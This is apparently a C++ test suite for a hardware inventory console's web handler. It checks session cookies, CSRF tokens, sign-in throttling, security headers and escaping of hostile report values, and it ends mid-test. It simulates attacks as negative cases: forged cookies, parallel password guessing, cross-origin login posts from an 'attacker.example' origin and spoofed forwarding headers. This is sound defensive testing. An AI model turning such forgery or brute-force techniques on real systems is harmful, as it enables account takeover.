// The console's handler, without sockets: sign-in, sessions and form tokens, the sign-in
// slow-down, the pages and exports over real reports (hostile ones among them), the security
// headers. Every test runs against each storage engine: the in-memory double, SQLite, and
// PostgreSQL when GRAVELIN_TEST_POSTGRES_URI names a server (tests/receiver/console/with_postgres.sh
// starts a throw-away one).

#include <gtest/gtest.h>
#include <sodium.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <filesystem>
#include <future>
#include <latch>
#include <map>
#include <memory>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>
#include <thread>

#include "ConsoleTesting.h"
#include "MemoryStore.h"
#include "receiver/console/Accounts.h"
#include "receiver/console/ApiTokens.h"
#include "receiver/console/Console.h"
#include "receiver/console/Csv.h"
#include "receiver/console/HashQueue.h"
#include "receiver/console/SurveyViews.h"
#include "receiver/console/Web.h"
#include "reading/SummaryJson.h"
#include "reading/SurveyFacets.h"
#include "receiver/http/Time.h"

namespace gravelin::testing {
namespace {

using server::Request;
using server::Response;

constexpr const char* kPassword = "correct horse battery staple";
// The tests' clock starts at the real time: the real stores drop sessions that expired by it.
const std::int64_t kStart = std::chrono::duration_cast<std::chrono::milliseconds>(
                                std::chrono::system_clock::now().time_since_epoch())
                                .count();

std::string headerOf(const Response& r, const std::string& name) {
    for (const auto& [key, value] : r.headers) {
        if (key == name) return value;
    }
    return {};
}
std::vector<std::string> headersOf(const Response& r, const std::string& name) {
    std::vector<std::string> values;
    for (const auto& [key, value] : r.headers) {
        if (key == name) values.push_back(value);
    }
    return values;
}
std::string displayTimeOf(std::int64_t ms) {
    return console::displayTime(ms);
}
std::size_t count(const std::string& haystack, const std::string& needle) {
    std::size_t n = 0;
    for (auto at = haystack.find(needle); at != std::string::npos; at = haystack.find(needle, at + 1)) ++n;
    return n;
}
// The address of the pager's link with that label ("Next ›"), as a request path; empty when
// the page has none.
std::string pagerLink(const std::string& body, const std::string& label) {
    const auto end = body.find("\">" + label + "</a>");
    if (end == std::string::npos) return {};
    const auto start = body.rfind("href=\"", end);
    std::string href = body.substr(start + 6, end - start - 6);
    for (auto at = href.find("&amp;"); at != std::string::npos; at = href.find("&amp;", at + 1))
        href.replace(at, 5, "&");
    return href;
}

// ---- the storage engines ----

std::unique_ptr<storage::Store> openEngine(const std::string& engine, const std::string& scratch) {
    if (engine == "memory") return std::make_unique<MemoryStore>();
#ifdef GRAVELIN_CONSOLE_REAL_STORES
    if (engine == "sqlite") {
        storage::StoreLocation location;
        location.dataDirectory = scratch;
        return storage::openStore(location);
    }
    if (engine == "postgresql") {
        const char* uri = std::getenv("GRAVELIN_TEST_POSTGRES_URI");
        if (uri == nullptr || *uri == '\0') return nullptr;
        storage::StoreLocation location;
        location.databaseUri = uri;
        return storage::openStore(location);
    }
#endif
    (void)scratch;
    return nullptr;
}

// Reports are built once: the scan driver over real tables, then sealed.
const std::vector<SeedScan>& seeds() {
    static const std::vector<SeedScan> scans = seedScans();
    return scans;
}

class ConsoleTest : public ::testing::TestWithParam<std::string> {
protected:
    void SetUp() override {
        scratch_ = std::filesystem::temp_directory_path() /
                   ("gravelin-console-test-" + std::to_string(::getpid()) + "-" +
                    std::to_string(counter_++));
        std::filesystem::create_directories(scratch_);
        store_ = openEngine(GetParam(), scratch_.string());
        // PostgreSQL runs under tests/receiver/storage/with-postgres.sh (CTest console_test_postgresql),
        // which names the server; without one that instance fails rather than passing unseen.
        ASSERT_TRUE(store_) << GetParam()
                            << " is not available: run under tests/receiver/storage/with-postgres.sh";
        // Each test's data stands apart in a shared database: its own names and machines.
        prefix_ = std::to_string(::getpid()) + "-" + std::to_string(counter_);
        user_ = "alice-" + prefix_;
        console::addUser(*store_, user_, kPassword, storage::Role::Admin, console::PasswordCost::Interactive);
        console_ = makeConsole("the console's secret");
        const auto& s = seeds();
        for (std::size_t i = 0; i < s.size(); ++i) {
            const auto scan = newScan(s[i].sealed, kStart - static_cast<std::int64_t>(s.size() - i) * 3600000);
            ids_[s[i].name] = store_->addScan(scan);
        }
    }
    void TearDown() override {
        store_.reset();
        std::error_code ignored;
        std::filesystem::remove_all(scratch_, ignored);
    }

    server::Handler makeConsole(const std::string& secret,
                                const std::function<void(console::ConsoleOptions&)>& adjust = {}) {
        console::ConsoleOptions options;
        options.secret = secret;
        options.clock = [this] { return now_.load(); };
        options.passwordCost = console::PasswordCost::Interactive;
        if (adjust) adjust(options);
        return console::makeConsole(*store_, options);
    }

    static Request request(const std::string& method, const std::string& target,
                           const std::string& cookies = {}, const std::string& body = {},
                           const std::string& address = "198.51.100.7") {
        Request r;
        r.method = method;
        const auto q = target.find('?');
        r.path = target.substr(0, q);
        if (q != std::string::npos) r.query = target.substr(q + 1);
        if (!cookies.empty()) r.headers.emplace_back("cookie", cookies);
        if (method == "POST") r.headers.emplace_back("content-type", "application/x-www-form-urlencoded");
        r.body = body;
        r.remoteAddress = address;
        r.secure = true;
        return r;
    }

    // The name=value part of each Set-Cookie, joined as a browser would send them back.
    static std::string cookiesFrom(const Response& r) {
        std::string jar;
        for (const auto& value : headersOf(r, "Set-Cookie")) {
            const std::string pair = value.substr(0, value.find(';'));
            if (pair.back() == '=') continue;  // a cookie being cleared
            if (!jar.empty()) jar += "; ";
            jar += pair;
        }
        return jar;
    }

    static std::string hiddenToken(const std::string& html) {
        std::smatch m;
        if (!std::regex_search(html, m, std::regex("name=\"token\" value=\"([^\"]*)\""))) return {};
        return m[1];
    }

    struct Attempt {
        Response response;
        std::string sessionCookie;  // empty when no session was made
    };

    Attempt trySignIn(const server::Handler& console, const std::string& name,
                      const std::string& password, const std::string& address = "198.51.100.7",
                      const std::vector<std::pair<std::string, std::string>>& headers = {}) {
        const Response form = console(request("GET", "/signin", {}, {}, address));
        const std::string body = "token=" + hiddenToken(form.body) + "&name=" + name +
                                 "&password=" + password;
        Request post = request("POST", "/signin", cookiesFrom(form), body, address);
        for (const auto& header : headers) post.headers.push_back(header);
        Attempt attempt{console(post), {}};
        for (const auto& value : headersOf(attempt.response, "Set-Cookie")) {
            if (value.find("gravelin-session=") != std::string::npos && value.find("Max-Age=0") == std::string::npos) {
                attempt.sessionCookie = value.substr(0, value.find(';'));
            }
        }
        return attempt;
    }

    std::string signIn() {
        const Attempt attempt = trySignIn(console_, user_, "correct+horse+battery+staple");
        EXPECT_EQ(attempt.response.status, 303) << attempt.response.body;
        EXPECT_FALSE(attempt.sessionCookie.empty());
        return attempt.sessionCookie;
    }

    // A machine of this test's own (the database may be shared) and a report of other
    // hardware claiming its identity.
    storage::AddResult forgedClaim() {
        MachineWmi genuine = workstation();
        genuine.serial = "OWN-" + prefix_;
        const auto own = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", genuine), kStart - 1000));
        MachineWmi forger = genuine;
        forger.vendor = "Forger Inc.";
        forger.disks = {{"Forged Disk", "FORGED-" + prefix_, "1.0", 256060514304ULL}};
        const auto forged = store_->addScan(newScan(sealedScan("infrasim-dell_r640", forger), kStart, "203.0.113.66"));
        EXPECT_EQ(forged.machineId, own.machineId);
        return forged;
    }

    // Another account of this test, with its role, signed in.
    std::string signInAs(const std::string& name, storage::Role role) {
        console::addUser(*store_, name, kPassword, role, console::PasswordCost::Interactive);
        const Attempt attempt = trySignIn(console_, name, "correct+horse+battery+staple");
        EXPECT_EQ(attempt.response.status, 303) << name;
        return attempt.sessionCookie;
    }

    // This test's entries of the audit log (the database may be shared), newest first.
    std::vector<storage::AuditEntry> auditOf(const std::string& actor, const std::string& action = {}) {
        storage::AuditQuery query;
        query.actor = actor;
        query.action = action;
        return store_->auditEntries(query);
    }

    std::string formTokenOf(const std::string& cookie) {
        return hiddenToken(console_(request("GET", "/machines", cookie)).body);
    }

    std::int64_t machineOf(const std::string& seed) const { return ids_.at(seed).machineId; }
    std::int64_t scanOf(const std::string& seed) const { return ids_.at(seed).scanId; }

    std::filesystem::path scratch_;
    std::unique_ptr<storage::Store> store_;
    server::Handler console_;
    std::atomic<std::int64_t> now_{kStart};
    std::string prefix_, user_;
    std::map<std::string, storage::AddResult> ids_;
    static inline int counter_ = 0;
};

// Every address a signed-in person can reach, with what it is.
std::vector<std::string> pagePaths(std::int64_t machine, std::int64_t scan, std::int64_t other) {
    const std::string m = std::to_string(machine), s = std::to_string(scan), o = std::to_string(other);
    return {"/", "/machines", "/machines?q=Dell&sort=model&dir=asc&page=1", "/machines/" + m,
            "/scans/" + s, "/diff?a=" + o + "&b=" + s, "/machines/999999", "/no/such/page",
            "/users", "/audit", "/audit?action=sign-in&since=2026-01-01", "/survey",
            "/survey?month=2026-11"};
}
std::vector<std::string> exportPaths(std::int64_t scan) {
    const std::string s = std::to_string(scan);
    return {"/machines.csv", "/machines.csv?q=Dell", "/scans/" + s + ".json", "/scans/" + s + "/report",
            "/scans/" + s + "/report.xml", "/survey.csv", "/survey.json?dimension=os"};
}

TEST_P(ConsoleTest, WithoutASessionPagesRedirectToSignInAndDataAnswers401) {
    const auto scan = scanOf("workstation, first scan");
    for (const auto& path : pagePaths(machineOf("workstation, first scan"), scan, scan)) {
        const Response r = console_(request("GET", path));
        EXPECT_EQ(r.status, 303) << path;
        // The sign-in leads back to the page, unless that is the list it leads to anyway.
        const bool list = path == "/" || path == "/machines";
        EXPECT_EQ(headerOf(r, "Location"), list ? "/signin" : "/signin?next=" + console::urlEncode(path)) << path;
        EXPECT_EQ(r.body.find("Precision"), std::string::npos) << path;
    }
    for (const auto& path : exportPaths(scan)) {
        const Response r = console_(request("GET", path));
        EXPECT_EQ(r.status, 401) << path;
        EXPECT_EQ(r.body.find("Precision"), std::string::npos) << path;
        EXPECT_EQ(r.body.find("7TQCK2J"), std::string::npos) << path;
    }
    // A cookie of the right name holding garbage is no session either.
    for (const std::string& cookie : std::vector<std::string>{"__Host-gravelin-session=", "__Host-gravelin-session=abc.def",
                                     "__Host-gravelin-session=" + std::string(5000, 'A'),
                                     "__Host-gravelin-session=x.y.z", "gravelin-session=x"}) {
        EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 303) << cookie.substr(0, 40);
        EXPECT_EQ(console_(request("GET", "/machines.csv", cookie)).status, 401) << cookie.substr(0, 40);
    }
}

TEST_P(ConsoleTest, SignedInEveryPageAnswersAndCarriesTheSecurityHeaders) {
    const std::string cookie = signIn();
    const auto scan = scanOf("workstation, module moved and disk replaced");
    const auto before = scanOf("workstation, first scan");
    std::vector<std::pair<std::string, std::string>> all;  // path, cookie
    for (const auto& p : pagePaths(machineOf("workstation, first scan"), scan, before)) all.emplace_back(p, cookie);
    for (const auto& p : exportPaths(scan)) all.emplace_back(p, cookie);
    for (const auto& p : pagePaths(1, scan, before)) all.emplace_back(p, "");
    all.emplace_back("/signin", "");
    all.emplace_back("/console.css", "");
    all.emplace_back("/console.js", "");
    for (const auto& [path, jar] : all) {
        const Response r = console_(request("GET", path, jar));
        EXPECT_EQ(headerOf(r, "Content-Security-Policy"),
                  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; "
                  "form-action 'self'; frame-ancestors 'none'; base-uri 'none'")
            << path;
        EXPECT_EQ(headerOf(r, "X-Content-Type-Options"), "nosniff") << path;
        EXPECT_EQ(headerOf(r, "Referrer-Policy"), "no-referrer") << path;
        if (path != "/console.css" && path != "/console.js") {
            EXPECT_EQ(headerOf(r, "Cache-Control"), "no-store") << path;
        }
        // No inline script or style: the policy would block them, so none are written. The
        // one script is the console's own file.
        if (!headerOf(r, "Content-Type").starts_with("text/html")) continue;
        const std::size_t script = r.body.find("<script");
        if (script != std::string::npos) {
            EXPECT_EQ(r.body.compare(script, 41, "<script src=\"/console.js\" defer></script>"), 0) << path;
            EXPECT_EQ(r.body.find("<script", script + 1), std::string::npos) << path;
        }
        EXPECT_EQ(r.body.find("style=\""), std::string::npos) << path;
        EXPECT_EQ(r.body.find("<style"), std::string::npos) << path;
    }
    const std::map<std::string, int> expected = {
        {"/", 303}, {"/machines", 200}, {"/machines/999999", 404}, {"/no/such/page", 404}};
    for (const auto& [path, status] : expected) {
        EXPECT_EQ(console_(request("GET", path, cookie)).status, status) << path;
    }
    EXPECT_EQ(console_(request("GET", "/diff?a=" + std::to_string(before) + "&b=" + std::to_string(scan), cookie)).status, 200);
    EXPECT_EQ(headerOf(console_(request("GET", "/console.css")), "Content-Type"), "text/css; charset=utf-8");
    const Response script = console_(request("GET", "/console.js"));
    EXPECT_EQ(headerOf(script, "Content-Type"), "text/javascript; charset=utf-8");
    EXPECT_EQ(script.body.find("eval"), std::string::npos);
    EXPECT_NE(script.body.find("time[datetime]"), std::string::npos);
}

TEST_P(ConsoleTest, SessionCookieIsHttpOnlySecureStrictAndOnlyItsHashIsStored) {
    const Response form = console_(request("GET", "/signin"));
    const Attempt attempt = trySignIn(console_, user_, "correct+horse+battery+staple");
    ASSERT_EQ(attempt.response.status, 303);
    std::string setCookie;
    for (const auto& value : headersOf(attempt.response, "Set-Cookie")) {
        if (value.starts_with("__Host-gravelin-session=")) setCookie = value;
    }
    ASSERT_FALSE(setCookie.empty());
    for (const char* attribute : {"; HttpOnly", "; Secure", "; SameSite=Strict", "; Path=/", "; Max-Age=28800"}) {
        EXPECT_NE(setCookie.find(attribute), std::string::npos) << attribute << " in " << setCookie;
    }
    EXPECT_EQ(setCookie.find("Domain"), std::string::npos);
    // The cookie is token.tag; the store knows the token's SHA-256 only.
    const std::string value = setCookie.substr(setCookie.find('=') + 1, setCookie.find(';') - setCookie.find('=') - 1);
    const std::string tokenText = value.substr(0, value.find('.'));
    unsigned char token[32];
    std::size_t length = 0;
    ASSERT_EQ(sodium_base642bin(token, sizeof token, tokenText.data(), tokenText.size(), nullptr, &length,
                                nullptr, sodium_base64_VARIANT_URLSAFE_NO_PADDING), 0);
    ASSERT_EQ(length, 32u);
    unsigned char digest[32];
    crypto_hash_sha256(digest, token, sizeof token);
    char hex[65];
    sodium_bin2hex(hex, sizeof hex, digest, sizeof digest);
    const auto session = store_->session(hex);
    ASSERT_TRUE(session.has_value());
    EXPECT_EQ(session->expiresAtMs, kStart + 8LL * 3600 * 1000);
    EXPECT_EQ(store_->session(tokenText), std::nullopt);
    EXPECT_EQ(session->formToken.size(), 64u);
    // The password is never stored, only its Argon2id hash.
    const auto account = store_->account(user_);
    ASSERT_TRUE(account.has_value());
    EXPECT_TRUE(account->passwordHash.starts_with("$argon2id$")) << account->passwordHash;
    EXPECT_EQ(account->passwordHash.find(kPassword), std::string::npos);
    (void)form;
}

TEST_P(ConsoleTest, PlainHttpConsoleMarksCookiesSecureWhenTheProxyTerminatedTls) {
    console::ConsoleOptions options;
    options.secureCookies = false;
    options.passwordCost = console::PasswordCost::Interactive;
    const server::Handler plain = console::makeConsole(*store_, options);
    const auto setCookie = [&](const Request& r) { return headerOf(plain(r), "Set-Cookie"); };
    Request direct = request("GET", "/signin");
    direct.secure = false;
    EXPECT_TRUE(setCookie(direct).starts_with("gravelin-signin="));
    EXPECT_EQ(setCookie(direct).find("Secure"), std::string::npos);
    Request proxied = direct;
    proxied.headers.emplace_back("x-forwarded-proto", "https");
    EXPECT_NE(setCookie(proxied).find("; Secure"), std::string::npos);
    direct.secure = true;
    EXPECT_NE(setCookie(direct).find("; Secure"), std::string::npos);
}

TEST_P(ConsoleTest, CookieFromAnotherSecretExpiredSessionAndSignedOutSessionAreRefused) {
    // Another console over the same store with its own secret: its cookies open nothing here.
    const server::Handler other = makeConsole("another secret");
    const Attempt elsewhere = trySignIn(other, user_, "correct+horse+battery+staple");
    ASSERT_EQ(elsewhere.response.status, 303);
    EXPECT_EQ(other(request("GET", "/machines", elsewhere.sessionCookie)).status, 200);
    EXPECT_EQ(console_(request("GET", "/machines", elsewhere.sessionCookie)).status, 303);
    EXPECT_EQ(console_(request("GET", "/machines.csv", elsewhere.sessionCookie)).status, 401);

    // A tag from this console on a token it never made: refused too.
    const std::string cookie = signIn();
    std::string forged = cookie;
    forged[forged.find('=') + 3] = forged[forged.find('=') + 3] == 'A' ? 'B' : 'A';
    EXPECT_EQ(console_(request("GET", "/machines", forged)).status, 303);

    // Valid until the session's end, refused from then on.
    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
    now_ += 8LL * 3600 * 1000 - 1;
    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
    now_ += 1;
    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 303);
    EXPECT_EQ(console_(request("GET", "/scans/1.json", cookie)).status, 401);
    now_ = kStart;
    EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 303) << "expired sessions are dropped";

    // Signing out ends the session on the server, not only in the browser.
    const std::string fresh = signIn();
    const std::string token = formTokenOf(fresh);
    ASSERT_EQ(token.size(), 64u);
    const Response out = console_(request("POST", "/signout", fresh, "token=" + token));
    EXPECT_EQ(out.status, 303);
    EXPECT_EQ(headerOf(out, "Location"), "/signin");
    EXPECT_EQ(console_(request("GET", "/machines", fresh)).status, 303);
}

TEST_P(ConsoleTest, PostsWithoutTheRightFormTokenAreRefused) {
    const std::string cookie = signIn();
    const std::string token = formTokenOf(cookie);
    std::string wrong = token;
    wrong[0] = wrong[0] == 'a' ? 'b' : 'a';
    for (const std::string& body : std::vector<std::string>{"", "token=", "token=" + wrong, "token=" + token.substr(0, 63),
                                   "token=" + token + "0", "other=" + token}) {
        const Response r = console_(request("POST", "/signout", cookie, body));
        EXPECT_EQ(r.status, 403) << body;
        EXPECT_EQ(console_(request("GET", "/machines", cookie)).status, 200) << "still signed in after " << body;
    }
    // Another session's token does not sign this one out.
    const std::string second = signIn();
    EXPECT_EQ(console_(request("POST", "/signout", cookie, "token=" + formTokenOf(second))).status, 403);
    EXPECT_EQ(console_(request("POST", "/machines", cookie, "token=" + wrong)).status, 403);

    // The sign-in form's own token: missing, from another console, or expired.
    const Response form = console_(request("GET", "/signin"));
    const std::string good = "name=" + user_ + "&password=correct+horse+battery+staple";
    EXPECT_EQ(console_(request("POST", "/signin", cookiesFrom(form), good)).status, 403);
    const Response otherForm = makeConsole("another secret")(request("GET", "/signin"));
    EXPECT_EQ(console_(request("POST", "/signin", cookiesFrom(otherForm),
                               "token=" + hiddenToken(otherForm.body) + "&" + good)).status, 403);
    EXPECT_EQ(console_(request("POST", "/signin", {}, "token=" + hiddenToken(form.body) + "&" + good)).status, 403)
        << "the token without its cookie";
    now_ += 3600LL * 1000 + 1;
    const Response late = console_(request("POST", "/signin", cookiesFrom(form), "token=" + hiddenToken(form.body) + "&" + good));
    EXPECT_EQ(late.status, 403);
    EXPECT_TRUE(headersOf(late, "Set-Cookie").size() == 1) << "no session for an expired form";
}

TEST_P(ConsoleTest, RepeatedFailedSignInsAreSlowedDownPerNameAndPerAddress) {
    // Three free failures, then 1 s, 2 s, 4 s ... during which even the right password waits.
    for (int i = 0; i < 3; ++i) {
        EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401) << i;
    }
    EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401);
    Attempt locked = trySignIn(console_, user_, "correct+horse+battery+staple");
    EXPECT_EQ(locked.response.status, 429);
    EXPECT_EQ(headerOf(locked.response, "Retry-After"), "1");
    EXPECT_TRUE(locked.sessionCookie.empty());
    now_ += 1000;
    EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401);
    now_ += 1999;
    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple").response.status, 429);
    // Another address does not unlock the name.
    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple", "203.0.113.99").response.status, 429);
    now_ += 1;
    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple").response.status, 303);
    // The success cleared the name's count: three free failures again.
    for (int i = 0; i < 4; ++i) EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 401) << i;
    EXPECT_EQ(trySignIn(console_, user_, "wrong").response.status, 429);

    // One address trying many names: locked after ten failures, whatever the name.
    const std::string address = "192.0.2.200";
    for (int i = 0; i < 10; ++i) {
        EXPECT_EQ(trySignIn(console_, "guess" + std::to_string(i), "pw", address).response.status, 401) << i;
    }
    EXPECT_EQ(trySignIn(console_, "guess-more", "pw", address).response.status, 401);
    EXPECT_EQ(trySignIn(console_, "guess-again", "pw", address).response.status, 429);
}

// Forty wrong passwords for one name at once get no more checks than forty in a row: the
// three free failures and the one that locks the name. The rest are refused unchecked.
TEST_P(ConsoleTest, ParallelWrongPasswordsGetNoMoreChecksThanSequentialOnes) {
    constexpr int kGuesses = 40;
    std::vector<Request> posts;
    for (int i = 0; i < kGuesses; ++i) {
        const Response form = console_(request("GET", "/signin"));
        posts.push_back(request("POST", "/signin", cookiesFrom(form),
                                "token=" + hiddenToken(form.body) + "&name=" + user_ +
                                    "&password=guess-" + std::to_string(i)));
    }
    std::latch go(kGuesses);
    std::vector<int> statuses(kGuesses);
    std::vector<std::thread> threads;
    for (int i = 0; i < kGuesses; ++i) {
        threads.emplace_back([&, i] {
            go.arrive_and_wait();
            statuses[i] = console_(posts[i]).status;
        });
    }
    for (auto& thread : threads) thread.join();
    std::map<int, int> answers;
    for (const int status : statuses) ++answers[status];
    EXPECT_EQ(answers, (std::map<int, int>{{401, 4}, {429, kGuesses - 4}}));
}

// Password checks have threads and a small queue of their own: with both taken, a sign-in is
// answered 503 with Retry-After at once (the call returns while the queue is still blocked),
// and an attempt refused that way is not counted as a failure.
TEST_P(ConsoleTest, SignInsBeyondThePasswordQueueAreAnswered503AtOnce) {
    auto queue = std::make_shared<console::HashQueue>(1, 1);
    std::promise<void> running, release;
    std::shared_future<void> released = release.get_future().share();
    auto busy = queue->submit([&] {
        running.set_value();
        released.wait();
        return false;
    });
    ASSERT_TRUE(busy);
    running.get_future().wait();  // the one thread is taken...
    auto waiting = queue->submit([] { return false; });
    ASSERT_TRUE(waiting);  // ...and the one place in the queue
    EXPECT_FALSE(queue->submit([] { return false; })) << "the queue holds no more";

    const server::Handler console = makeConsole("the console's secret", [&](console::ConsoleOptions& o) {
        o.hashQueue = queue;
    });
    for (int i = 0; i < 5; ++i) {
        const Attempt refused = trySignIn(console, user_, "wrong-password");
        EXPECT_EQ(refused.response.status, 503) << i;
        EXPECT_EQ(headerOf(refused.response, "Retry-After"), "5") << i;
        EXPECT_TRUE(refused.sessionCookie.empty());
    }
    release.set_value();
    busy->get();
    waiting->get();
    // Five refused attempts, more than the three free failures, yet the name is not locked.
    EXPECT_EQ(trySignIn(console, user_, "correct+horse+battery+staple").response.status, 303);
}

// Behind the reverse proxy every client has the proxy's address: its X-Forwarded-For entry
// says who it is, so one client's failures lock out that client only. Any other peer's
// header is its own claim and is ignored.
TEST_P(ConsoleTest, BehindTheTrustedProxyEachClientIsCountedByItsOwnAddress) {
    const std::string proxy = "10.0.0.5";
    const server::Handler console = makeConsole("the console's secret", [&](console::ConsoleOptions& o) {
        o.trustedProxy = proxy;
    });
    const auto via = [](const std::string& forwarded) {
        return std::vector<std::pair<std::string, std::string>>{{"x-forwarded-for", forwarded}};
    };
    // Client A, through the proxy: ten free failures (other names each time), one that
    // locks, then refused.
    for (int i = 0; i < 11; ++i) {
        EXPECT_EQ(trySignIn(console, "guess" + std::to_string(i), "pw", proxy, via("192.0.2.1, 203.0.113.50"))
                      .response.status,
                  401)
            << i;
    }
    EXPECT_EQ(trySignIn(console, "guess-more", "pw", proxy, via("203.0.113.50")).response.status, 429);
    // Client B, through the same proxy, signs in.
    EXPECT_EQ(trySignIn(console, user_, "correct+horse+battery+staple", proxy, via("198.51.100.99"))
                  .response.status,
              303);
    // A peer that is not the proxy cannot pick its address with the header.
    const std::string peer = "192.0.2.77";
    for (int i = 0; i < 11; ++i) {
        EXPECT_EQ(trySignIn(console, "other" + std::to_string(i), "pw", peer, via("203.0.113." + std::to_string(i)))
                      .response.status,
                  401)
            << i;
    }
    EXPECT_EQ(trySignIn(console, "other-more", "pw", peer, via("203.0.113.200")).response.status, 429);
}

// A replaced password (`user add` for an existing name) signs that account out everywhere;
// other accounts keep their sessions.
TEST_P(ConsoleTest, ANewPasswordEndsEverySessionOfThatAccount) {
    const std::string first = signIn();
    const std::string second = signIn();
    const std::string bob = "bob-" + prefix_;
    console::addUser(*store_, bob, kPassword, storage::Role::Admin, console::PasswordCost::Interactive);
    const Attempt bobs = trySignIn(console_, bob, "correct+horse+battery+staple");
    ASSERT_EQ(bobs.response.status, 303);
    for (const std::string& cookie : {first, second, bobs.sessionCookie}) {
        ASSERT_EQ(console_(request("GET", "/machines", cookie)).status, 200);
    }
    console::addUser(*store_, user_, "a brand new password", storage::Role::Admin, console::PasswordCost::Interactive);
    for (const std::string& cookie : {first, second}) {
        const Response r = console_(request("GET", "/machines", cookie));
        EXPECT_EQ(r.status, 303);
        EXPECT_EQ(headerOf(r, "Location"), "/signin");
    }
    EXPECT_EQ(console_(request("GET", "/machines", bobs.sessionCookie)).status, 200);
    EXPECT_EQ(trySignIn(console_, user_, "correct+horse+battery+staple").response.status, 401);
    EXPECT_EQ(trySignIn(console_, user_, "a+brand+new+password").response.status, 303);
}

// Login forgery: a page on another port of this host fetches a sign-in form for its own
// account, plants the form's cookie (cookies do not keep ports apart) and posts the form
// from the victim's browser. The browser says where the form came from; only the console's
// own origin may sign in. And every page says who is signed in.
TEST_P(ConsoleTest, SignInFormsPostedFromAnotherOriginAreRefusedAndPagesSayWhoIsSignedIn) {
    using Headers = std::vector<std::pair<std::string, std::string>>;
    const std::string console = "127.0.0.1:8081";
    const struct {
        const char* what;
        Headers headers;
        int status;
    } cases[] = {
        {"another port of this host", {{"sec-fetch-site", "same-site"}, {"origin", "http://127.0.0.1:9999"}, {"host", console}}, 403},
        {"another site", {{"sec-fetch-site", "cross-site"}, {"origin", "http://attacker.example"}, {"host", console}}, 403},
        {"another port, Origin only", {{"origin", "http://127.0.0.1:9999"}, {"host", console}}, 403},
        {"an opaque origin", {{"origin", "null"}, {"host", console}}, 403},
        {"the console's own form", {{"sec-fetch-site", "same-origin"}, {"origin", "http://" + console}, {"host", console}}, 303},
        {"the console's own form, Origin only", {{"origin", "http://" + console}, {"host", console}}, 303},
        {"a client that is not a browser", {}, 303},
    };
    for (const auto& c : cases) {
        const Attempt attempt = trySignIn(console_, user_, "correct+horse+battery+staple", "198.51.100.7", c.headers);
        EXPECT_EQ(attempt.response.status, c.status) << c.what;
        EXPECT_EQ(attempt.sessionCookie.empty(), c.status != 303) << c.what;
    }

    const std::string cookie = signIn();
    const auto scan = scanOf("workstation, first scan");
    const std::string shown = "Signed in as <strong><bdi>" + user_ + "</bdi></strong>";
    auto paths = pagePaths(machineOf("workstation, first scan"), scan, scanOf("workstation, module moved and disk replaced"));
    paths.emplace_back("/signin");
    for (const auto& path : paths) {
        Response r = console_(request("GET", path, cookie));
        if (r.status == 303) r = console_(request("GET", headerOf(r, "Location"), cookie));
        EXPECT_NE(r.body.find(shown), std::string::npos) << path;
    }
    EXPECT_EQ(console_(request("GET", "/signin")).body.find("Signed in as"), std::string::npos);
}

// Values that need no markup to spoil a page: a 10,000-character firmware string (shown
// whole), a right-to-left override in the maker (kept inside its own element, so that it
// cannot reverse the model after it) and the code-page bytes Windows-1252 leaves undefined
// (shown as \x81 ..., never sent raw to a page or into the CSV).
TEST_P(ConsoleTest, LongReversingAndUndefinedValuesAreShownWholeIsolatedAndVisible) {
    const std::string cookie = signIn();
    const auto machine = std::to_string(machineOf("unreadable"));
    const auto scan = std::to_string(scanOf("unreadable"));
    const std::string visibleSerial = "SN\\x81\\x8d\\x8f\\x90\\x9d42";
    // A control character in a page or a CSV: C0 but TAB, LF and CR; DEL; C1 (UTF-8 C2 80..9F).
    const auto hasControl = [](const std::string& text) {
        for (std::size_t i = 0; i < text.size(); ++i) {
            const auto c = static_cast<unsigned char>(text[i]);
            if ((c < 0x20 && c != '\t' && c != '\n' && c != '\r') || c == 0x7F) return true;
            if (c == 0xC2 && i + 1 < text.size() && (static_cast<unsigned char>(text[i + 1]) & 0xE0) == 0x80) return true;
        }
        return false;
    };
    const std::string fsi = "\u2068", pdi = "\u2069";
    for (const std::string& path : std::vector<std::string>{"/machines", "/machines?q=LFD0001", "/machines/" + machine, "/scans/" + scan}) {
        const Response r = console_(request("GET", path, cookie));
        ASSERT_EQ(r.status, 200) << path;
        EXPECT_FALSE(hasControl(r.body)) << path;
        // Every time the maker is shown, it is isolated: in an element of its own, between
        // isolate marks in the title, or alone in a cell's hover text.
        const std::size_t shown = count(r.body, kReversingMaker);
        EXPECT_EQ(shown, count(r.body, "<bdi>" + kReversingMaker + "</bdi>") + count(r.body, fsi + kReversingMaker + pdi) +
                             count(r.body, "title=\"" + kReversingMaker + "\""))
            << path;
    }
    const Response page = console_(request("GET", "/machines/" + machine, cookie));
    EXPECT_NE(page.body.find("<h1><bdi>" + kReversingMaker + "</bdi> <bdi>" + kReversedModel + "</bdi></h1>"),
              std::string::npos);
    EXPECT_NE(page.body.find("<bdi>" + kLongFirmware + "</bdi>"), std::string::npos) << "the firmware, whole";
    EXPECT_NE(page.body.find("<bdi>" + visibleSerial + "</bdi>"), std::string::npos);

    const Response csv = console_(request("GET", "/machines.csv", cookie));
    std::string records = csv.body;
    records.erase(std::remove(records.begin(), records.end(), '\r'), records.end());
    records.erase(std::remove(records.begin(), records.end(), '\n'), records.end());
    EXPECT_FALSE(hasControl(records));
    EXPECT_NE(csv.body.find(visibleSerial), std::string::npos);
}

TEST_P(ConsoleTest, UnknownNamesAndWrongPasswordsGetTheSameAnswer) {
    const Attempt unknown = trySignIn(console_, "nobody-" + prefix_, "whatever-password");
    const Attempt wrong = trySignIn(console_, user_, "whatever-password");
    EXPECT_EQ(unknown.response.status, wrong.response.status);
    const auto normalised = [](std::string body) {
        body = std::regex_replace(body, std::regex("value=\"[^\"]*\""), "value=\"\"");
        return body;
    };
